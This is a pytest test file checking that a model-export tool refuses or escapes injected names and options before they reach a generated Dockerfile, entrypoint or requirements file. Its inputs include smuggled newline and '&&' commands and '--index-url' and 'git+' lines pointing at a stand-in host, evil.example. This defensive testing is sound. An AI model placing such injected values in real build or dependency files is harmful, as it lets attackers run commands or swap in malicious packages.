"""Names and options that end up as lines of the Dockerfile, entrypoint.sh or
requirements.txt: a file name or option with a newline (`\\nRUN touch /pwned`), a space or a
`&&` is refused with a message naming it, or escaped inside a comment; it never becomes an
instruction, a command or a requirement line."""

from __future__ import annotations

from pathlib import Path

import pytest

from runtime.errors import BuildError
from runtime.export.bento import build_bento
from runtime.export.bentoml_service import render_entrypoint
from runtime.export.dockerfile import DockerOptions, render_dockerfile
from runtime.export.requirements import Requirements
from tests.runtime.bento_fixtures import TOY_SERVICE, save_toy_model, write_toy_service

INJECTED = "\nRUN touch /pwned"


def test_a_service_file_name_with_a_newline_is_refused(tmp_path: Path) -> None:
    save_toy_model()
    folder = write_toy_service(tmp_path / "svc")
    evil = folder / "svc\nRUN touch pwned.py"  # a file name cannot hold the '/' of /pwned
    evil.write_text(TOY_SERVICE)
    with pytest.raises(BuildError, match=r"service file name .*RUN touch pwned.*letters, digits"):
        build_bento(evil)
    with pytest.raises(BuildError, match="service file name"):
        render_entrypoint(f"src/x.py{INJECTED}")
    assert '"$BENTO_ROOT/src/toy.py"' in render_entrypoint("src/toy.py")


@pytest.mark.parametrize("option", [
    {"base_image": f"python:3.11-slim{INJECTED}"},
    {"base_image": "python:3.11-slim AS x"},
    {"system_packages": [f"curl{INJECTED}"]},
    {"system_packages": ["curl && touch /pwned"]},
    {"system_packages": ["curl;id"]},
])
def test_dockerfile_options_that_would_add_an_instruction_are_refused(option: dict) -> None:
    with pytest.raises(BuildError, match=r"base image|system package"):
        render_dockerfile(DockerOptions(**option))


def test_plain_options_still_render() -> None:
    text = render_dockerfile(DockerOptions(base_image="registry.example/team/py:3.11-slim",
                                           system_packages=["libgomp1", "curl=7.88.1-10+deb12u5"]))
    assert "ARG BASE_IMAGE=registry.example/team/py:3.11-slim\n" in text
    assert "install -y --no-install-recommends curl=7.88.1-10+deb12u5 libgomp1 " in text


def test_file_names_in_requirement_comments_cannot_add_lines() -> None:
    reqs = Requirements(
        direct={"numpy": "imported in helpers\n--index-url http://evil.example/simple.py"},
        pinned={"numpy": "2.0.0"},
        unresolved=["missing (a\n-e git+http://evil.example/x.py:3)", "other (b\u2028c.py:1)"],
    )
    lines = reqs.render().splitlines()
    assert all(line.startswith("#") or line == "" or line.startswith("numpy==2.0.0")
               for line in lines), lines
    assert any("\\n--index-url" in line for line in lines)
